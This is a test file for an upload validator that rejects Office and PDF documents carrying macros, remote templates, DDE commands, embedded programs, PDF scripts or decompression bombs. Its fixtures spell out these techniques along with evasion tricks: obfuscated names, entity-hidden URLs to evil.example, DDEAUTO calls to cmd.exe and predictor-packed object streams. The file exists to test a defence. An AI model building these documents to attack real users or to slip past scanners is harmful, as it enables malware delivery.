import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { allFileKinds } from '../../contract/file.ts';
import { recogniseDocument } from './documents.ts';
import { contentTypes, docx, pdf, zip } from './uploads.fixtures.ts';

/** Papers only show. Those that would run or fetch something when they are opened are refused, in any disguise. */

const finding = (name: string, bytes: Buffer) =>
  recogniseDocument({ name, bytes }, allFileKinds).then(
    ({ kind }) => kind,
    (error: { key: string }) => error.key,
  );

const word = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
const excel = 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml';
const office = (type: string, more: [string, string][]) =>
  zip([
    ['[Content_Types].xml', Buffer.from(contentTypes(type))],
    ['word/document.xml', Buffer.from('<w:document/>')],
    ...more.map(([name, text]): [string, Buffer] => [name, Buffer.from(text)]),
  ]);
const parts: [string, Buffer][] = [
  ['[Content_Types].xml', Buffer.from(contentTypes(word))],
  ['word/document.xml', Buffer.from('<w:document/>')],
];
const relation = (kind: string, target: string, external = true) =>
  `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${kind}" Target="${target}"${external ? ' TargetMode="External"' : ''}/></Relationships>`;
const settings = 'word/_rels/settings.xml.rels';
const links = 'word/_rels/document.xml.rels';
const compound = (...streams: string[]) =>
  Buffer.concat([
    Buffer.from('d0cf11e0a1b11ae1', 'hex'),
    Buffer.alloc(600),
    ...streams.map(stream => Buffer.from(`${stream}\0`, 'utf16le')),
  ]);

describe('office files', () => {
  it.each<[string, string, Buffer]>([
    ['a macro project', 'a.docx', office(word, [['word/vbaProject.bin', 'x']])],
    ['a macro project elsewhere', 'a.docx', office(word, [['otro/VBAPROJECT.BIN', 'x']])],
    [
      'a macro project by another name',
      'a.docx',
      office(word, [['[content_types].xml', '<x ContentType="application/vnd.ms-office.vbaProject"/>']]),
    ],
    ['a macro sheet', 'a.xlsx', office(excel, [['xl/macrosheets/sheet1.xml', '<x/>']])],
    ['a control', 'a.docx', office(word, [['word/activeX/activeX1.bin', 'x']])],
    ['a packed program', 'a.docx', office(word, [['word/embeddings/oleObject1.bin', 'x']])],
    ['a program as it is', 'a.docx', office(word, [['word/embeddings/factura.exe', 'MZ']])],
    [
      'a template elsewhere',
      'a.docx',
      office(word, [[settings, relation('attachedTemplate', 'https://evil.example/t.dotm')]]),
    ],
    [
      'a template on a share',
      'a.docx',
      office(word, [[settings, relation('attachedTemplate', '\\\\evil.example\\t.dotm')]]),
    ],
    [
      'a template in disguise',
      'a.docx',
      office(word, [[settings, relation('attachedTemplate', '&#104;ttps://evil.example/t')]]),
    ],
    ['a frame elsewhere', 'a.docx', office(word, [[links, relation('frame', 'http://evil.example/')]])],
    [
      'an object elsewhere',
      'a.docx',
      office(word, [[links, relation('oleObject', 'mhtml:http://evil.example/a!x-usc:b')]]),
    ],
    ['a picture on a share', 'a.docx', office(word, [[links, relation('image', 'file://evil.example/a.png')]])],
    [
      'a command to a program',
      'a.docx',
      office(word, [['word/header1.xml', '<w:instrText>DD</w:instrText><w:instrText>EAUTO c:\\cmd.exe</w:instrText>']]),
    ],
    [
      'a command in a sheet',
      'a.xlsx',
      office(excel, [
        ['xl/externalLinks/externalLink1.xml', '<externalLink><ddeLink ddeService="cmd"/></externalLink>'],
      ]),
    ],
    [
      'a template elsewhere, in other letters',
      'a.docx',
      zip([
        ...parts,
        [settings, Buffer.from(`\ufeff${relation('attachedTemplate', 'https://evil.example/t')}`, 'utf16le')],
      ]),
    ],
    [
      'a template elsewhere, behind a bracket',
      'a.docx',
      office(word, [[settings, relation('attachedTemplate', 'https://evil.example/t?>')]]),
    ],
    [
      'a template elsewhere, by a name of its own',
      'a.docx',
      office(word, [
        [settings, `<!DOCTYPE x [<!ENTITY e "https://evil.example">]>${relation('attachedTemplate', '&e;')}`],
      ]),
    ],
    [
      'macros in the sheet behind a chart',
      'a.docx',
      zip([...parts, ['word/embeddings/Sheet1.xlsx', office(excel, [['xl/vbaProject.bin', 'x']])]]),
    ],
    [
      'a whole field that is a command',
      'a.docx',
      office(word, [['word/footer1.xml', '<w:fldSimple w:instr="DDE cmd /c"/>']]),
    ],
    ['macros of Word 97', 'a.doc', compound('WordDocument', 'Macros', '_VBA_PROJECT')],
    ['macros of Excel 97', 'a.xls', compound('Workbook', '_VBA_PROJECT_CUR')],
    ['macros of Excel 4', 'a.xls', Buffer.concat([compound('Workbook'), Buffer.from('0908100000064000bb0d', 'hex')])],
    ['a packed program in Word 97', 'a.doc', compound('WordDocument', '\u0001Ole10Native')],
  ])('with %s are refused', async (_what, name, bytes) => {
    expect(await finding(name, bytes)).toMatch(/^file\.(macros|damaged)$/);
  });

  it('with macros are refused by their kind too', async () => {
    expect(await finding('a.docm', office('application/vnd.ms-word.document.macroEnabled.main+xml', []))).toBe(
      'file.wrongType',
    );
    expect(await finding('a.xlsm', office('application/vnd.ms-excel.sheet.macroEnabled.main+xml', []))).toBe(
      'file.wrongType',
    );
  });

  it('that unpack to more than they say are judged at once', async () => {
    const zeros = Buffer.alloc(8_000_000, 32);
    const bomb = Array.from({ length: 20 }, (_, number): [string, Buffer] => [`word/_rels/${number}.xml.rels`, zeros]);
    const archive = zip([...parts, ...bomb]);
    // The sizes that the archive claims are small.
    for (let at = archive.indexOf('PK\x01\x02'); at >= 0; at = archive.indexOf('PK\x01\x02', at + 4))
      archive.writeUInt32LE(10, at + 24);
    expect(await finding('a.docx', archive)).toBe('file.macros');
  });

  it('with two parts of one name are refused', async () => {
    expect(
      await finding(
        'a.docx',
        office(word, [
          [links, relation('image', 'a.png', false)],
          [links, relation('frame', 'http://evil.example')],
        ]),
      ),
    ).toBe('file.damaged');
  });

  it.each<[string, string, Buffer]>([
    ['nothing more', 'a.docx', docx(Buffer.from('<w/>'))],
    ['a link to click on', 'a.docx', office(word, [[links, relation('hyperlink', 'https://hotel.example/')]])],
    [
      'the template of the writer',
      'a.docx',
      office(word, [[settings, relation('attachedTemplate', 'file:///C:\\Users\\Ana\\carta.dotx')]]),
    ],
    ['a picture inside', 'a.docx', office(word, [[links, relation('image', 'media/image1.png', false)]])],
    [
      'the sheet behind a chart',
      'a.docx',
      zip([...parts, ['word/embeddings/Microsoft_Excel_Sheet1.xlsx', office(excel, [])]]),
    ],
    [
      'a field with a date',
      'a.docx',
      office(word, [['word/header1.xml', '<w:instrText> DATE \\@ "d/M/yyyy" </w:instrText>']]),
    ],
    [
      'a link to another sheet',
      'a.xlsx',
      office(excel, [
        ['xl/externalLinks/_rels/externalLink1.xml.rels', relation('externalLinkPath', 'file:///C:\\tarifas.xlsx')],
      ]),
    ],
    ['nothing more, of Word 97', 'a.doc', compound('WordDocument')],
    ['nothing more, of Excel 97', 'a.xls', compound('Workbook')],
  ])('with %s are taken', async (_what, name, bytes) => {
    expect(await finding(name, bytes)).toMatch(/^(word|excel)$/);
  });
});

const pdfOf = (objects: string, trailer = '<</Root 1 0 R>>') =>
  Buffer.from(`%PDF-1.7\n${objects}\ntrailer${trailer}\n%%EOF\n`, 'latin1');
const catalog = (more: string) => `1 0 obj<</Type/Catalog ${more}>>endobj`;
const packedObjects = (text: string, dictionary = '/Type/ObjStm/N 1/First 4', filter = '/Filter/FlateDecode') => {
  const packed = deflateSync(`2 0 ${text}`).toString('latin1');
  return `${catalog('')}\n3 0 obj<<${dictionary}/Length ${packed.length}${filter}>>stream\r\n${packed}\nendstream endobj`;
};
const action = '<</S/JavaScript/JS(app.alert(1))>>';

/** Bytes as the predictor 'Up' of PNG writes them: each row holds its differences from the row above. */
function predicted(raw: Buffer, columns: number): Buffer {
  const rows = Math.ceil(raw.length / columns);
  const whole = Buffer.concat([raw, Buffer.alloc(rows * columns - raw.length, 32)]);
  return Buffer.concat(
    Array.from({ length: rows }, (_, row) =>
      Buffer.from([
        2,
        ...whole
          .subarray(row * columns, (row + 1) * columns)
          .map((byte, at) => byte - (row > 0 ? (whole[(row - 1) * columns + at] ?? 0) : 0)),
      ]),
    ),
  );
}
/** Objects packed behind a predictor, with more in their dictionary. */
const predictedObjects = (more = '', told = '/Type/ObjStm/N 1/First 4', mark = 'stream\r\n') => {
  const packed = deflateSync(predicted(Buffer.from(`2 0 ${action}`), 8)).toString('latin1');
  const how = '/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 8>>';
  return `${catalog('')}\n3 0 obj<<${told}/Length ${packed.length}${how}${more}>>${mark}${packed}\nendstream endobj`;
};

describe('a PDF', () => {
  it.each([
    ['a script', pdfOf(catalog(`/OpenAction ${action}`))],
    ['a script with its name in disguise', pdfOf(catalog('/OpenAction<</S/J#61vaScr#69pt/J#53 2 0 R>>'))],
    ['a script at each page', pdfOf(`${catalog('')}2 0 obj<</Type/Page/AA<</O ${action}>>>>endobj`)],
    ['scripts by name', pdfOf(catalog('/Names<</JavaScript<</Names[(a) 2 0 R]>>>>'))],
    ['a script in packed objects', pdfOf(packedObjects(action))],
    ['a script in packed objects in disguise', pdfOf(packedObjects(action.replace('/JavaScript', '/Java#53cript')))],
    ['a script in packed objects of no type', pdfOf(packedObjects(action, '/N 1/First 4'))],
    ['a script behind a false beginning', pdfOf(packedObjects(action, '/Type/ObjStm/N 1/First 4/X(1 0 obj)'))],
    [
      'objects packed in an unusual way',
      pdfOf(
        packedObjects(action, undefined, '/Filter[/ASCIIHexDecode/FlateDecode]').replace('stream\r\n', 'stream\r\n78'),
      ),
    ],
    ['packed objects behind a predictor', pdfOf(predictedObjects())],
    ['packed objects behind a predictor and a false beginning', pdfOf(predictedObjects('/X(9 0 obj)'))],
    [
      'packed objects behind a predictor and a false beginning in brackets',
      pdfOf(predictedObjects('/X((\\)9 0 obj)<<)')),
    ],
    ['packed objects behind a predictor and a false bracket', pdfOf(predictedObjects('/Y<28(>/X(9 0 obj)'))],
    ['packed objects behind a predictor and a remark', pdfOf(predictedObjects('%9 0 obj<<>>\n'))],
    ['packed objects behind a predictor and a long dictionary', pdfOf(predictedObjects(`/X(${'a'.repeat(5_000)})`))],
    ['packed objects behind a predictor, in words with remarks', pdfOf(predictedObjects('', '/N%\n1/First%\n4'))],
    [
      'packed objects behind a predictor, marked loosely',
      pdfOf(predictedObjects('/X(9 0 obj)', undefined, 'stream \n')),
    ],
    [
      'objects packed in an unusual way behind a false beginning',
      pdfOf(
        packedObjects(action, undefined, '/Filter[/ASCIIHexDecode/FlateDecode]/X(9 0 obj)').replace(
          'stream\r\n',
          'stream\r\n78',
        ),
      ),
    ],
    ['the start of a program', pdfOf(catalog('/OpenAction<</S/Launch/F(cmd.exe)>>'))],
    ['a form with scripts', pdfOf(catalog('/AcroForm<</XFA[(template)2 0 R]>>'))],
    ['a player', pdfOf(`${catalog('')}2 0 obj<</Subtype/RichMedia>>endobj`)],
    ['a form that is sent', pdfOf(catalog('/OpenAction<</S/SubmitForm/F(https://evil.example)>>'))],
    ['an attached program', pdfOf(`${catalog('')}2 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj`)],
    ['protected objects', pdfOf(packedObjects('<</Type/Page>>'), '<</Root 1 0 R/Encrypt 9 0 R>>')],
  ])('with %s is refused', async (_what, bytes) => {
    expect(await finding('a.pdf', bytes)).toMatch(/^file\.(scripts|locked|damaged)$/);
  });

  it.each([
    ['nothing more', pdf],
    ['a first page to show', pdfOf(catalog('/OpenAction[2 0 R/Fit]'))],
    [
      'a link to click on',
      pdfOf(
        `${catalog('')}2 0 obj<</A<</S/URI/URI(https://hotel.example/JavaScript)>>>>endobj`.replace(
          '/JavaScript',
          '/guia',
        ),
      ),
    ],
    ['packed objects', pdfOf(packedObjects('<</Type/Page>>'))],
    ['protected texts', pdfOf(catalog(''), '<</Root 1 0 R/Encrypt 9 0 R>>')],
    [
      'an electronic invoice',
      pdfOf(`${catalog('')}2 0 obj<</Type/EmbeddedFile/Subtype/text#2Fxml/Length 4>>stream\n<x/>\nendstream endobj`),
    ],
    [
      'a compressed picture',
      pdfOf(
        `${catalog('')}2 0 obj<</Subtype/Image/Filter/FlateDecode>>stream\n${deflateSync(Buffer.alloc(5000, 7)).toString('latin1')}\nendstream endobj`,
      ),
    ],
    [
      'its table of contents behind a predictor',
      pdfOf(
        `${catalog('')}4 0 obj<</Type/XRef/Size 5/W[1 2 1]/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 4>>>>stream\n${deflateSync(
          predicted(Buffer.from([1, 0, 15, 0, 1, 0, 99, 0, 2, 0, 3, 1]), 4),
        ).toString('latin1')}\nendstream endobj`,
      ),
    ],
    [
      'bookmarks before a picture and its colours',
      pdfOf(
        `${catalog('')}2 0 obj<</Type/Outlines/First 5 0 R/Count 1>>endobj 3 0 obj<</N 3/Filter/FlateDecode>>stream\n${deflateSync(
          Buffer.alloc(500, 9),
        ).toString('latin1')}\nendstream endobj`,
      ),
    ],
  ])('with %s is taken', async (_what, bytes) => {
    expect(await finding('a.pdf', bytes)).toBe('pdf');
  });

  it.each([
    ['beginnings of streams', 'stream\n'],
    ['names of protections', '/Encrypt 9 0 R '],
    ['beginnings of objects', '1 0 obj<<'],
    ['beginnings of objects in brackets', '1 0 obj<</X('],
    ['beginnings of objects with remarks', '1 0 obj%'],
    ['brackets of a name', '/XFA          '],
    ['attached invoices', '/EmbeddedFile/Subtype/text#2Fxml '],
  ])('made of %s alone is judged by looking at each once', async (_what, piece) => {
    // A reader that looked at each piece again for each of the others would not end within the limit of a test.
    expect(await finding('a.pdf', pdfOf(piece.repeat(Math.ceil(10_000_000 / piece.length))))).toEqual(
      expect.any(String),
    );
  });

  it('a bomb of packed objects ends at the limit', async () => {
    const bomb = deflateSync(Buffer.concat([Buffer.from('1 0 '), Buffer.alloc(60_000_000, 32)])).toString('latin1');
    expect(
      await finding(
        'a.pdf',
        pdfOf(`${catalog('')}3 0 obj<</Type/ObjStm/N 1/First 4>>stream\n${bomb}\nendstream endobj`),
      ),
    ).toBe('file.damaged');
  });
});
